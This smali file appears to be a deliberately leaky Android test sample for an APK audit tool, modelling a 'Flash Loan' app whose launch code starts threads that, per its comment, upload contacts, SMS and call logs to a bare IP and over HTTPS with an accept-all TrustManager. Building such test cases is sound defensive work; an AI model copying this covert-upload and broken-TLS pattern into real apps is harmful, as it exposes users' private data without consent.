.class public Lorg/apkaudit/sample/leaky/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# "Flash Loan": on launch it starts ContactsUpload (contacts and SMS to a bare IP over
# plain HTTP, with Volley) and CallLogUpload (the call log over HTTPS with an accept-all
# TrustManager), and starts the AppsFlyer stand-in SDK, which sends the device id to
# its collector.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    new-instance v0, Ljava/lang/Thread;

    new-instance v1, Lorg/apkaudit/sample/leaky/ContactsUpload;

    invoke-direct {v1, p0}, Lorg/apkaudit/sample/leaky/ContactsUpload;-><init>(Landroid/content/Context;)V

    invoke-direct {v0, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v0}, Ljava/lang/Thread;->start()V

    new-instance v0, Ljava/lang/Thread;

    new-instance v1, Lorg/apkaudit/sample/leaky/CallLogUpload;

    invoke-direct {v1, p0}, Lorg/apkaudit/sample/leaky/CallLogUpload;-><init>(Landroid/content/Context;)V

    invoke-direct {v0, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v0}, Ljava/lang/Thread;->start()V

    invoke-static {p0}, Lcom/appsflyer/AppsFlyerLib;->start(Landroid/content/Context;)V

    return-void
.end method
